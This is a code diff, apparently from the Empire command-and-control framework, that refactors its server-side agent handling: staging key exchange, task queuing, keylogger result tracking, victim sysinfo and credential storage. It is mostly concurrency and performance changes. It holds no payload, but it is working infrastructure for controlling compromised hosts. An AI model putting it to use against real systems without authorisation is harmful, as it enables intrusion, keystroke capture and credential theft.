                 message = "[*] Tasked {} to run {}".format(sessionID, taskName)
-                signal = json.dumps({
-                    'print': True,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                signal = helpers.signal_json(message, True)
+                dispatcher.send(signal, sender=sender)
 
                 conn = self.get_db_connection()
                 try:
                     self.lock.acquire()
-                    # get existing agent taskings
                     cur = conn.cursor()
-                    cur.execute("SELECT taskings FROM agents WHERE session_id=?", [sessionID])
-                    agent_tasks = cur.fetchone()
 
-                    if agent_tasks and agent_tasks[0]:
-                        agent_tasks = json.loads(agent_tasks[0])
-                    else:
-                        agent_tasks = []
-
-                    pk = cur.execute("SELECT max(id) from taskings where agent=?", [sessionID]).fetchone()[0]
-                    if pk is None:
-                        pk = 0
-                    pk = (pk + 1) % 65536
-                    cur.execute("INSERT INTO taskings (id, agent, data, user_id, timestamp, module_name) VALUES(?,?,?,?,?,?)",
-                                [pk, sessionID, task[:100], uid, timestamp, moduleName])
-                    # self.mainMenu.socketio.emit('agent/task', {'sessionID': sessionID, 'taskID': pk, 'data': task[:100]})
-
-                    # Create result for data when it arrives
-                    cur.execute("INSERT INTO results (id, agent, user_id) VALUES (?,?,?)", (pk, sessionID, uid))
-
-                    # append our new json-ified task and update the backend
-                    agent_tasks.append([taskName, task, pk])
-                    cur.execute("UPDATE agents SET taskings=? WHERE session_id=?", [json.dumps(agent_tasks), sessionID])
-
-                    # update last seen time for user
-                    last_logon = helpers.getutcnow()
-                    cur.execute("UPDATE users SET last_logon_time = ? WHERE id = ?",
-                                (last_logon, uid))
-
-                    # dispatch this event
-                    message = "[*] Agent {} tasked with task ID {}".format(sessionID, pk)
-                    signal = json.dumps({
-                        'print': True,
-                        'message': message,
-                        'task_name': taskName,
-                        'task_id': pk,
-                        'task': task,
-                        'event_type': 'task'
-                    })
-                    dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                    # one write transaction for the whole task, so it's a single commit instead of one per statement
+                    cur.execute("BEGIN IMMEDIATE")
+                    try:
+                        # get existing agent taskings
+                        cur.execute(SQL_SELECT_TASKINGS, [sessionID])
+                        agent_tasks = cur.fetchone()
+
+                        if agent_tasks and agent_tasks[0]:
+                            agent_tasks = json.loads(agent_tasks[0])
+                        else:
+                            agent_tasks = []
+
+                        pk = self._next_task_id(cur, sessionID)
+                        cur.execute(SQL_INSERT_TASKING, [pk, sessionID, task[:100], uid, timestamp, moduleName])
+                        # self.mainMenu.socketio.emit('agent/task', {'sessionID': sessionID, 'taskID': pk, 'data': task[:100]})
+
+                        # Create result for data when it arrives
+                        cur.execute(SQL_INSERT_RESULT, (pk, sessionID, uid))
+
+                        # append our new json-ified task and update the backend
+                        agent_tasks.append([taskName, task, pk])
+                        cur.execute(SQL_UPDATE_TASKINGS, [json.dumps(agent_tasks), sessionID])
+
+                        # update last seen time for user
+                        cur.execute(SQL_UPDATE_USER_LOGON, (timestamp, uid))
+                        cur.execute("COMMIT")
+                        self._pending_taskings.add(sessionID)
+                        # task IDs wrap around, so a reused ID has to drop any earlier keylogger mark
+                        if isinstance(task, str) and task.startswith(KEYLOG_TASK_PREFIX):
+                            self._keylog_task_ids.add((sessionID, pk))
+                        else:
+                            self._keylog_task_ids.discard((sessionID, pk))
+                    except Exception:
+                        cur.execute("ROLLBACK")
+                        # the id wasn't used, make the next task re-read the counter from the database
+                        self._task_ids.pop(sessionID, None)
+                        raise
 
                     cur.close()
 
-                    # write out the last tasked script to "LastTask" if in debug mode
-                    if self.args and self.args.debug:
-                        f = open('%s/LastTask' % (self.installPath), 'w')
-                        f.write(task)
-                        f.close()
-                    return pk
-
                 finally:
                     self.lock.release()
 
+                # dispatch this event once the write lock is released, so slow receivers
+                #   don't hold up every other agent's database writes
+                message = "[*] Agent {} tasked with task ID {}".format(sessionID, pk)
+                signal = SIGNAL_TASK % (encode_basestring_ascii(message), encode_basestring_ascii(taskName), pk, encode_basestring_ascii(task))
+                dispatcher.send(signal, sender=sender)
+                return pk
+
+
+    def _add_agent_task_debug(self, sessionID, taskName, task='', moduleName=None, uid=None, timestamp=None):
+        """
+        add_agent_task_db() for debug mode, which also writes out the
+        last tasked script to "LastTask".
+        """
+        pk = Agents.add_agent_task_db(self, sessionID, taskName, task, moduleName, uid, timestamp)
+        if pk is not None:
+            with open('%s/LastTask' % (self.installPath), 'w') as f:
+                f.write(task)
+        return pk
+
+
+    def _next_task_id(self, cur, sessionID):
+        """
+        Return the next task ID for an agent, the caller must hold self.lock.
+
+        The last ID handed out is kept in self._task_ids, so the max(id) lookup
+        only happens on an agent's first task since startup.
+        """
+        pk = self._task_ids.get(sessionID)
+        if pk is None:
+            pk = cur.execute(SQL_SELECT_MAX_TASK_ID, [sessionID]).fetchone()[0]
+            if pk is None:
+                pk = 0
+        pk = (pk + 1) % 65536
+        self._task_ids[sessionID] = pk
+        return pk
+
 
     def get_agent_tasks_db(self, sessionID):
         """
@@ -1215,22 +1886,31 @@ class Agents(object):
         if sessionID not in self.agents:
             print(helpers.color("[!] Agent %s not active." % (agentName)))
             return []
+        # nothing has been queued since the last time the taskings were read, checked before
+        #   taking self.lock so idle check-ins never wait on other agents' writes. A task added
+        #   right after this is just picked up on the next check-in.
+        elif sessionID not in self._pending_taskings:
+            return []
         else:
             conn = self.get_db_connection()
             try:
                 self.lock.acquire()
+                if sessionID not in self._pending_taskings:
+                    return []
+
                 cur = conn.cursor()
-                cur.execute("SELECT taskings FROM agents WHERE session_id=?", [sessionID])
+                cur.execute(SQL_SELECT_TASKINGS, [sessionID])
                 tasks = cur.fetchone()
 
                 if tasks and tasks[0]:
                     tasks = json.loads(tasks[0])
                     # clear the taskings out
-                    cur.execute("UPDATE agents SET taskings=? WHERE session_id=?", ['', sessionID])
+                    cur.execute(SQL_UPDATE_TASKINGS, ['', sessionID])
                 else:
                     tasks = []
 
                 cur.close()
+                self._pending_taskings.discard(sessionID)
             finally:
                 self.lock.release()
 
@@ -1245,29 +1925,39 @@ class Agents(object):
         returns a list of (sessionID, taskings) tuples
         """
 
+        # most polls find nothing queued, check that on a reader first so they don't wait on self.lock
+        with self.get_read_connection() as readConn:
+            pending = readConn.execute(SQL_SELECT_LISTENER_PENDING, [listenerName]).fetchone()
+        if not pending:
+            return []
+
         conn = self.get_db_connection()
-        results = []
 
         try:
             self.lock.acquire()
-            oldFactory = conn.row_factory
-            conn.row_factory = helpers.dict_factory # return results as a dictionary
             cur = conn.cursor()
-            cur.execute("SELECT session_id,listener,taskings FROM agents WHERE listener=? AND taskings IS NOT NULL", [listenerName])
-            agents = cur.fetchall()
 
-            for agent in agents:
-                # print agent
-                if agent['taskings']:
-                    tasks = json.loads(agent['taskings'])
-                    # clear the taskings out
-                    cur.execute("UPDATE agents SET taskings=? WHERE session_id=?", ['', agent['session_id']])
-                    results.append((agent['session_id'], tasks))
+            # SQLite's UPDATE ... RETURNING only hands back the new (cleared) values, so read the
+            #   pending taskings first and then clear them all with one UPDATE, in one transaction
+            cur.execute("BEGIN IMMEDIATE")
+            try:
+                cur.execute(SQL_SELECT_LISTENER_TASKINGS, [listenerName])
+                agents = cur.fetchall()
+
+                sessionIDs = [sessionID for sessionID, taskings in agents]
+                for chunk in helpers.chunks(sessionIDs, SQL_MAX_IN_PARAMS):
+                    cur.execute(SQL_CLEAR_LISTENER_TASKINGS % ','.join('?' * len(chunk)), [listenerName] + chunk)
+                cur.execute("COMMIT")
+                self._pending_taskings.difference_update(sessionIDs)
+            except Exception:
+                cur.execute("ROLLBACK")
+                raise
             cur.close()
-            conn.row_factory = oldFactory
         finally:
             self.lock.release()
 
+        results = [(sessionID, json.loads(taskings)) for sessionID, taskings in agents]
+
         return results
 
 
@@ -1292,11 +1982,8 @@ class Agents(object):
             sessionID = 'all'
 
         message = "[*] Tasked {} to clear tasks".format(sessionID)
-        signal = json.dumps({
-            'print': True,
-            'message': message
-        })
-        dispatcher.send(signal, sender="agents/{}".format(sessionID))
+        signal = helpers.signal_json(message, True)
+        dispatcher.send(signal, sender=self._sender(sessionID))
 
 
     ###############################################################
@@ -1312,6 +1999,8 @@ class Agents(object):
         """
 
         listenerName = listenerOptions['Name']['Value']
+        # every signal below goes out under the same sender
+        sender = self._sender(sessionID)
 
         if meta == 'STAGE0':
             # step 1 of negotiation -> client requests staging code
@@ -1320,11 +2009,8 @@ class Agents(object):
         elif meta == 'STAGE1':
             # step 3 of negotiation -> client posts public key
             message = "[*] Agent {} from {} posted public key".format(sessionID, clientIP)
-            signal = json.dumps({
-                'print': False,
-                'message': message
-            })
-            dispatcher.send(signal, sender="agents/{}".format(sessionID))
+            signal = helpers.signal_json(message, False)
+            dispatcher.send(signal, sender=sender)
 
             # decrypt the agent's public key
             try:
@@ -1333,25 +2019,19 @@ class Agents(object):
                 print('exception e:' + str(e))
                 # if we have an error during decryption
                 message = "[!] HMAC verification failed from '{}'".format(sessionID)
-                signal = json.dumps({
-                    'print': True,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                signal = helpers.signal_json(message, True)
+                dispatcher.send(signal, sender=sender)
                 return 'ERROR: HMAC verification failed'
 
             if language.lower() == 'powershell':
                 # strip non-printable characters
-                message = ''.join([x for x in message.decode('UTF-8') if x in string.printable])
+                message = message.translate(None, NONPRINTABLE_BYTES).decode('ascii')
 
                 # client posts RSA key
                 if (len(message) < 400) or (not message.endswith("</RSAKeyValue>")):
                     message = "[!] Invalid PowerShell key post format from {}".format(sessionID)
-                    signal = json.dumps({
-                        'print': True,
-                        'message': message
-                    })
-                    dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                    signal = helpers.signal_json(message, True)
+                    dispatcher.send(signal, sender=sender)
                     return 'ERROR: Invalid PowerShell key post format'
                 else:
                     # convert the RSA key from the stupid PowerShell export format
@@ -1359,11 +2039,8 @@ class Agents(object):
 
                     if rsaKey:
                         message = "[*] Agent {} from {} posted valid PowerShell RSA key".format(sessionID, clientIP)
-                        signal = json.dumps({
-                            'print': False,
-                            'message': message
-                        })
-                        dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                        signal = helpers.signal_json(message, False)
+                        dispatcher.send(signal, sender=sender)
                         nonce = helpers.random_string(16, charset=string.digits)
                         delay = listenerOptions['DefaultDelay']['Value']
                         jitter = listenerOptions['DefaultJitter']['Value']
@@ -1392,32 +2069,23 @@ class Agents(object):
 
                     else:
                         message = "[!] Agent {} returned an invalid PowerShell public key!".format(sessionID)
-                        signal = json.dumps({
-                            'print': True,
-                            'message': message
-                        })
-                        dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                        signal = helpers.signal_json(message, True)
+                        dispatcher.send(signal, sender=sender)
                         return 'ERROR: Invalid PowerShell public key'
 
             elif language.lower() == 'python':
                 if ((len(message) < 1000) or (len(message) > 2500)):
                     message = "[!] Invalid Python key post format from {}".format(sessionID)
-                    signal = json.dumps({
-                        'print': True,
-                        'message': message
-                    })
-                    dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                    signal = helpers.signal_json(message, True)
+                    dispatcher.send(signal, sender=sender)
                     return "Error: Invalid Python key post format from %s" % (sessionID)
                 else:
                     try:
                         int(message)
                     except:
                         message = "[!] Invalid Python key post format from {}".format(sessionID)
-                        signal = json.dumps({
-                            'print': True,
-                            'message': message
-                        })
-                        dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                        signal = helpers.signal_json(message, True)
+                        dispatcher.send(signal, sender=sender)
                         return "Error: Invalid Python key post format from {}".format(sessionID)
 
                     # client posts PUBc key
@@ -1429,11 +2097,8 @@ class Agents(object):
                     nonce = helpers.random_string(16, charset=string.digits)
 
                     message = "[*] Agent {} from {} posted valid Python PUB key".format(sessionID, clientIP)
-                    signal = json.dumps({
-                        'print': True,
-                        'message': message
-                    })
-                    dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                    signal = helpers.signal_json(message, True)
+                    dispatcher.send(signal, sender=sender)
 
                     delay = listenerOptions['DefaultDelay']['Value']
                     jitter = listenerOptions['DefaultJitter']['Value']
@@ -1458,66 +2123,52 @@ class Agents(object):
 
             else:
                 message = "[*] Agent {} from {} using an invalid language specification: {}".format(sessionID, clientIP, language)
-                signal = json.dumps({
-                    'print': True,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                signal = helpers.signal_json(message, True)
+                dispatcher.send(signal, sender=sender)
                 return 'ERROR: invalid language: {}'.format(language)
 
         elif meta == 'STAGE2':
             # step 5 of negotiation -> client posts nonce+sysinfo and requests agent
 
-            sessionKey = (self.agents[sessionID]['sessionKey'])
+            agentInfo = self.agents[sessionID]
+            sessionKey = agentInfo['sessionKey']
             if isinstance(sessionKey, str):
-                sessionKey = (self.agents[sessionID]['sessionKey']).encode('UTF-8')
+                sessionKey = sessionKey.encode('UTF-8')
+
+            # the nonce was cached when STAGE1 added the agent, only go to the database if it's missing
+            nonce = agentInfo.get('nonce')
+            if nonce is None:
+                nonce = self.get_agent_nonce_db(sessionID)
 
             try:
                 message = encryption.aes_decrypt_and_verify(sessionKey, encData)
-                parts = message.split(b'|')
+                # decode the whole checkin once rather than field by field
+                parts = message.decode('utf-8').split('|')
 
                 if len(parts) < 12:
                     message = "[!] Agent {} posted invalid sysinfo checkin format: {}".format(sessionID, message)
-                    signal = json.dumps({
-                        'print': True,
-                        'message': message
-                    })
-                    dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                    signal = helpers.signal_json(message, True)
+                    dispatcher.send(signal, sender=sender)
                     # remove the agent from the cache/database
                     self.mainMenu.agents.remove_agent_db(sessionID)
                     return "ERROR: Agent %s posted invalid sysinfo checkin format: %s" % (sessionID, message)
 
                 # verify the nonce
-                if int(parts[0]) != (int(self.mainMenu.agents.get_agent_nonce_db(sessionID)) + 1):
+                if int(parts[0]) != (int(nonce) + 1):
                     message = "[!] Invalid nonce returned from {}".format(sessionID)
-                    signal = json.dumps({
-                        'print': True,
-                        'message': message
-                    })
-                    dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                    signal = helpers.signal_json(message, True)
+                    dispatcher.send(signal, sender=sender)
                     # remove the agent from the cache/database
                     self.mainMenu.agents.remove_agent_db(sessionID)
                     return "ERROR: Invalid nonce returned from %s" % (sessionID)
 
                 message = "[!] Nonce verified: agent {} posted valid sysinfo checkin format: {}".format(sessionID, message)
-                signal = json.dumps({
-                    'print': False,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
-
-                listener = str(parts[1], 'utf-8')
-                domainname = str(parts[2], 'utf-8')
-                username = str(parts[3], 'utf-8')
-                hostname = str(parts[4], 'utf-8')
+                signal = helpers.signal_json(message, False)
+                dispatcher.send(signal, sender=sender)
+
+                (listener, domainname, username, hostname, internal_ip, os_details, high_integrity,
+                 process_name, process_id, language, language_version) = parts[1:12]
                 external_ip = clientIP
-                internal_ip = str(parts[5], 'utf-8')
-                os_details = str(parts[6], 'utf-8')
-                high_integrity = str(parts[7], 'utf-8')
-                process_name = str(parts[8], 'utf-8')
-                process_id = str(parts[9], 'utf-8')
-                language = str(parts[10], 'utf-8')
-                language_version = str(parts[11], 'utf-8')
                 if high_integrity == "True":
                     high_integrity = 1
                 else:
@@ -1525,11 +2176,8 @@ class Agents(object):
 
             except Exception as e:
                 message = "[!] Exception in agents.handle_agent_staging() for {} : {}".format(sessionID, e)
-                signal = json.dumps({
-                    'print': True,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                signal = helpers.signal_json(message, True)
+                dispatcher.send(signal, sender=sender)
                 # remove the agent from the cache/database
                 self.mainMenu.agents.remove_agent_db(sessionID)
                 return "Error: Exception in agents.handle_agent_staging() for %s : %s" % (sessionID, e)
@@ -1545,15 +2193,12 @@ class Agents(object):
             slack_webhook_url = listenerOptions['SlackURL']['Value']
             if slack_webhook_url != "":
                 slack_text = ":biohazard_sign: NEW AGENT :biohazard_sign:\r\n```Machine Name: %s\r\nInternal IP: %s\r\nExternal IP: %s\r\nUser: %s\r\nOS Version: %s\r\nAgent ID: %s```" % (hostname,internal_ip,external_ip,username,os_details,sessionID)
-                helpers.slackMessage(slack_webhook_url,slack_text)
+                self._slack_queue.put((slack_webhook_url, slack_text))
 
             # signal everyone that this agent is now active
             message = "[+] Initial agent {} from {} now active (Slack)".format(sessionID, clientIP)
-            signal = json.dumps({
-                'print': True,
-                'message': message
-            })
-            dispatcher.send(signal, sender="agents/{}".format(sessionID))
+            signal = helpers.signal_json(message, True)
+            dispatcher.send(signal, sender=sender)
 
             # save the initial sysinfo information in the agent log
             agent = self.mainMenu.agents.get_agent_db(sessionID)
@@ -1591,11 +2236,8 @@ class Agents(object):
 
         else:
             message = "[!] Invalid staging request packet from {} at {} : {}".format(sessionID, clientIP, meta)
-            signal = json.dumps({
-                'print': True,
-                'message': message
-            })
-            dispatcher.send(signal, sender="agents/{}".format(sessionID))
+            signal = helpers.signal_json(message, True)
+            dispatcher.send(signal, sender=sender)
 
     def handle_agent_data(self, stagingKey, routingPacket, listenerOptions, clientIP='0.0.0.0', update_lastseen=True):
         """
@@ -1606,11 +2248,7 @@ class Agents(object):
         """
         if len(routingPacket) < 20:
             message = "[!] handle_agent_data(): routingPacket wrong length: {}".format(len(routingPacket))
-            signal = json.dumps({
-                'print': False,
-                'message': message
-            })
-            dispatcher.send(signal, sender="empire")
+            self._emit("empire", {'print': False, 'message': message})
             return None
 
         if isinstance(routingPacket, str):
@@ -1621,85 +2259,72 @@ class Agents(object):
 
         dataToReturn = []
 
-        # process each routing packet
-        for sessionID, (language, meta, additional, encData) in routingPacket.items():
-            if meta == 'STAGE0' or meta == 'STAGE1' or meta == 'STAGE2':
-                message = "[*] handle_agent_data(): sessionID {} issued a {} request".format(sessionID, meta)
-                signal = json.dumps({
-                    'print': False,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
-                dataToReturn.append((language, self.handle_agent_staging(sessionID, language, meta, additional, encData, stagingKey, listenerOptions, clientIP)))
-
-            elif sessionID not in self.agents:
-                message = "[!] handle_agent_data(): sessionID {} not present".format(sessionID)
-                signal = json.dumps({
-                    'print': False,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
-                dataToReturn.append(('', "ERROR: sessionID %s not in cache!" % (sessionID)))
-
-            elif meta == 'TASKING_REQUEST':
-                message = "[*] handle_agent_data(): sessionID {} issued a TASKING_REQUEST".format(sessionID)
-                signal = json.dumps({
-                    'print': False,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
-                dataToReturn.append((language, self.handle_agent_request(sessionID, language, stagingKey)))
-
-            elif meta == 'RESULT_POST':
-                message = "[*] handle_agent_data(): sessionID {} issued a RESULT_POST".format(sessionID)
-                signal = json.dumps({
-                    'print': False,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
-                dataToReturn.append((language, self.handle_agent_response(sessionID, encData, update_lastseen)))
+        # one timestamp for everything this routing packet updates
+        currentTime = helpers.getutcnow()
+
+        # hold one reader connection for every lookup made while handling this packet
+        with self.get_read_connection():
+            # process each routing packet
+            for sessionID, (language, meta, additional, encData) in routingPacket.items():
+                sender = self._sender(sessionID)
+                if meta == 'STAGE0' or meta == 'STAGE1' or meta == 'STAGE2':
+                    message = "[*] handle_agent_data(): sessionID {} issued a {} request".format(sessionID, meta)
+                    self._emit(sender, {'print': False, 'message': message})
+                    dataToReturn.append((language, self.handle_agent_staging(sessionID, language, meta, additional, encData, stagingKey, listenerOptions, clientIP)))
+
+                elif sessionID not in self.agents:
+                    message = "[!] handle_agent_data(): sessionID {} not present".format(sessionID)
+                    self._emit(sender, {'print': False, 'message': message})
+                    dataToReturn.append(('', "ERROR: sessionID %s not in cache!" % (sessionID)))
+
+                elif meta == 'TASKING_REQUEST':
+                    message = "[*] handle_agent_data(): sessionID {} issued a TASKING_REQUEST".format(sessionID)
+                    self._emit(sender, {'print': False, 'message': message})
+                    dataToReturn.append((language, self.handle_agent_request(sessionID, language, stagingKey, current_time=currentTime)))
+
+                elif meta == 'RESULT_POST':
+                    message = "[*] handle_agent_data(): sessionID {} issued a RESULT_POST".format(sessionID)
+                    self._emit(sender, {'print': False, 'message': message})
+                    dataToReturn.append((language, self.handle_agent_response(sessionID, encData, update_lastseen, currentTime)))
 
-            else:
-                message = "[!] handle_agent_data(): sessionID {} gave unhandled meta tag in routing packet: {}".format(sessionID, meta)
-                signal = json.dumps({
-                    'print': True,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                else:
+                    message = "[!] handle_agent_data(): sessionID {} gave unhandled meta tag in routing packet: {}".format(sessionID, meta)
+                    signal = helpers.signal_json(message, True)
+                    dispatcher.send(signal, sender=sender)
         return dataToReturn
 
 
-    def handle_agent_request(self, sessionID, language, stagingKey, update_lastseen=True):
+    def handle_agent_request(self, sessionID, language, stagingKey, update_lastseen=True, current_time=None):
         """
         Update the agent's last seen time and return any encrypted taskings.
 
+        current_time is the request's timestamp, if the caller already has one.
+
         TODO: does this need self.lock?
         """
         if sessionID not in self.agents:
             message = "[!] handle_agent_request(): sessionID {} not present".format(sessionID)
-            signal = json.dumps({
-                'print': True,
-                'message': message
-            })
-            dispatcher.send(signal, sender="agents/{}".format(sessionID))
+            signal = helpers.signal_json(message, True)
+            dispatcher.send(signal, sender=self._sender(sessionID))
             return None
 
         # update the client's last seen time
         if update_lastseen:
-            self.update_agent_lastseen_db(sessionID)
+            self.update_agent_lastseen_db(sessionID, current_time)
 
         # retrieve all agent taskings from the cache
         taskings = self.get_agent_tasks_db(sessionID)
 
         if taskings and taskings != []:
 
-            all_task_packets = b''
+            # grown in place, so queuing up many taskings doesn't recopy everything built so far
+            all_task_packets = bytearray()
 
             # build tasking packets for everything we have
             for tasking in taskings:
                 task_name, task_data, res_id = tasking
 
-                all_task_packets += packets.build_task_packet(task_name, task_data, res_id)
+                all_task_packets.extend(packets.build_task_packet(task_name, task_data, res_id))
 
             # get the session key for the agent
             session_key = self.agents[sessionID]['sessionKey']
@@ -1714,21 +2339,23 @@ class Agents(object):
             return None
 
 
-    def handle_agent_response(self, sessionID, encData, update_lastseen=False):
+    def handle_agent_response(self, sessionID, encData, update_lastseen=False, current_time=None):
         """
         Takes a sessionID and posted encrypted data response, decrypt
         everything and handle results as appropriate.
 
+        current_time is the request's timestamp, if the caller already has one.
+
         TODO: does this need self.lock?
         """
 
+        # every signal below goes out under the same sender
+        sender = self._sender(sessionID)
+
         if sessionID not in self.agents:
             message = "[!] handle_agent_response(): sessionID {} not in cache".format(sessionID)
-            signal = json.dumps({
-                'print': True,
-                'message': message
-            })
-            dispatcher.send(signal, sender="agents/{}".format(sessionID))
+            signal = helpers.signal_json(message, True)
+            dispatcher.send(signal, sender=sender)
             return None
 
         # extract the agent's session key
@@ -1736,7 +2363,7 @@ class Agents(object):
 
         # update the client's last seen time
         if update_lastseen:
-            self.update_agent_lastseen_db(sessionID)
+            self.update_agent_lastseen_db(sessionID, current_time)
 
         try:
             # verify, decrypt and depad the packet
@@ -1753,11 +2380,7 @@ class Agents(object):
             if results:
                 # signal that this agent returned results
                 message = "[*] Agent {} returned results.".format(sessionID)
-                signal = json.dumps({
-                    'print': False,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                self._emit(sender, {'print': False, 'message': message})
 
             # return a 200/valid
             return 'VALID'
@@ -1765,11 +2388,8 @@ class Agents(object):
 
         except Exception as e:
             message = "[!] Error processing result packet from {} : {}".format(sessionID, e)
-            signal = json.dumps({
-                'print': True,
-                'message': message
-            })
-            dispatcher.send(signal, sender="agents/{}".format(sessionID))
+            signal = helpers.signal_json(message, True)
+            dispatcher.send(signal, sender=sender)
 
             # TODO: stupid concurrency...
             #   when an exception is thrown, something causes the lock to remain locked...
@@ -1791,392 +2411,354 @@ class Agents(object):
         if nameid:
             sessionID = nameid
 
-        conn = self.get_db_connection()
-        try:
-            self.lock.acquire()
-            # report the agent result in the reporting database
-            cur = conn.cursor()
-            message = "[*] Agent {} got results".format(sessionID)
-            signal = json.dumps({
-                'print': False,
-                'message': message,
-                'response_name': responseName,
-                'task_id': taskID,
-                'event_type': 'result'
-            })
-            dispatcher.send(signal, sender="agents/{}".format(sessionID))
-
-            # insert task results into the database, if it's not a file
-            if taskID != 0 and responseName not in ["TASK_DOWNLOAD", "TASK_CMD_JOB_SAVE", "TASK_CMD_WAIT_SAVE"] and data != None:
-                # Update result with data
-                cur.execute("UPDATE results SET data=? WHERE id=? AND agent=?", (data, taskID, sessionID))
-                # self.mainMenu.socketio.emit('agents/task', {'sessionID': sessionID, 'taskID': taskID, 'data': data})
+        # report the agent result in the reporting database
+        message = "[*] Agent {} got results".format(sessionID)
+        self._emit(self._sender(sessionID), {
+            'print': False,
+            'message': message,
+            'response_name': responseName,
+            'task_id': taskID,
+            'event_type': 'result'
+        })
 
-                try:
-                    keyLogTaskID = cur.execute("SELECT id FROM taskings WHERE agent=? AND id=? AND data LIKE \"function Get-Keystrokes%\"", [sessionID, taskID]).fetchone()[0]
-                except Exception as e:
-                    pass
-                else:
-                    cur.execute("UPDATE results SET data=data||? WHERE id=? AND agent=?", [data, taskID, sessionID])
+        # insert task results into the database, if it's not a file
+        if taskID != 0 and responseName not in FILE_RESPONSES and data is not None:
+            # Update result with data, queued for the next batched commit
+            self._result_writer.set_result(sessionID, taskID, data)
+            # self.mainMenu.socketio.emit('agents/task', {'sessionID': sessionID, 'taskID': taskID, 'data': data})
 
-        finally:
-            cur.close()
-            self.lock.release()
+            if (sessionID, taskID) in self._keylog_task_ids:
+                keyLogTaskID = taskID
+                self._result_writer.append_result(sessionID, taskID, data)
 
         # TODO: for heavy traffic packets, check these first (i.e. SOCKS?)
         #       so this logic is skipped
 
-        if responseName == "ERROR":
-            # error code
-            message = "\n[!] Received error response from {}".format(sessionID)
-            signal = json.dumps({
-                'print': True,
-                'message': message
-            })
-            dispatcher.send(signal, sender="agents/{}".format(sessionID))
-            self.update_agent_results_db(sessionID, data)
-
-            if isinstance(data,bytes):
-                data = data.decode('UTF-8')
-            # update the agent log
-            self.save_agent_log(sessionID, "[!] Error response: " + data)
-
-
-        elif responseName == "TASK_SYSINFO":
-            # sys info response -> update the host info
-            data = data.decode('utf-8')
-            parts = data.split("|")
-            if len(parts) < 12:
-                message = "[!] Invalid sysinfo response from {}".format(sessionID)
-                signal = json.dumps({
-                    'print': True,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
-            else:
-                # extract appropriate system information
-                listener = parts[1]
-                domainname = parts[2]
-                username = parts[3]
-                hostname = parts[4]
-                internal_ip = parts[5]
-                os_details = parts[6]
-                high_integrity = parts[7]
-                process_name = parts[8]
-                process_id = parts[9]
-                language = parts[10]
-                language_version = parts[11]
-                if high_integrity == 'True':
-                    high_integrity = 1
-                else:
-                    high_integrity = 0
-
-                # username = str(domainname)+"\\"+str(username)
-                username = "%s\\%s" % (domainname, username)
-
-                # update the agent with this new information
-                self.mainMenu.agents.update_agent_sysinfo_db(sessionID, listener=listener, internal_ip=internal_ip, username=username, hostname=hostname, os_details=os_details, high_integrity=high_integrity, process_name=process_name, process_id=process_id, language_version=language_version, language=language)
-
-                sysinfo = '{0: <18}'.format("Listener:") + listener + "\n"
-                sysinfo += '{0: <18}'.format("Internal IP:") + internal_ip + "\n"
-                sysinfo += '{0: <18}'.format("Username:") + username + "\n"
-                sysinfo += '{0: <18}'.format("Hostname:") + hostname + "\n"
-                sysinfo += '{0: <18}'.format("OS:") + os_details + "\n"
-                sysinfo += '{0: <18}'.format("High Integrity:") + str(high_integrity) + "\n"
-                sysinfo += '{0: <18}'.format("Process Name:") + process_name + "\n"
-                sysinfo += '{0: <18}'.format("Process ID:") + process_id + "\n"
-                sysinfo += '{0: <18}'.format("Language:") + language + "\n"
-                sysinfo += '{0: <18}'.format("Language Version:") + language_version + "\n"
-
-                self.update_agent_results_db(sessionID, sysinfo)
-                # update the agent log
-                self.save_agent_log(sessionID, sysinfo)
-
-
-        elif responseName == "TASK_EXIT":
-            # exit command response
-            # let everyone know this agent exited
-            message = "[!] Agent {} exiting".format(sessionID)
-            signal = json.dumps({
-                'print': True,
-                'message': message
-            })
-            dispatcher.send(signal, sender="agents/{}".format(sessionID))
-
-            # update the agent results and log
-            # self.update_agent_results(sessionID, data)
-            self.save_agent_log(sessionID, data)
-
-            # remove this agent from the cache/database
-            self.remove_agent_db(sessionID)
-
+        handler = self._RESPONSE_HANDLERS.get(responseName)
+        if handler:
+            handler(self, sessionID, taskID, data, keyLogTaskID)
+        else:
+            print(helpers.color("[!] Unknown response %s from %s" % (responseName, sessionID)))
 
-        elif responseName == "TASK_SHELL":
-            # shell command response
-            self.update_agent_results_db(sessionID, data)
-            # update the agent log
-            self.save_agent_log(sessionID, data)
 
+    def _add_agent_credentials(self, sessionID, creds, time):
+        """
+        Add parsed credentials from an agent to the credential store, defaulting
+        each empty hostname to the agent's own.
 
-        elif responseName == "TASK_DOWNLOAD":
-            # file download
-            if isinstance(data, bytes):
-                data = data.decode('UTF-8')
+        cred format: (credType, domain, username, password, hostname, sid, notes)
+        """
+        if not creds:
+            return
 
-            parts = data.split("|")
-            if len(parts) != 4:
-                message = "[!] Received invalid file download response from {}".format(sessionID)
-                signal = json.dumps({
-                    'print': True,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
-            else:
-                index, path, filesize, data = parts
-                # decode the file data and save it off as appropriate
-                file_data = helpers.decode_base64(data.encode('UTF-8'))
-                name = self.get_agent_name_db(sessionID)
+        # the agent's hostname/OS don't change across the loop, so look them up once
+        agentHostname, osDetails = self._get_agent_meta(sessionID)[1:]
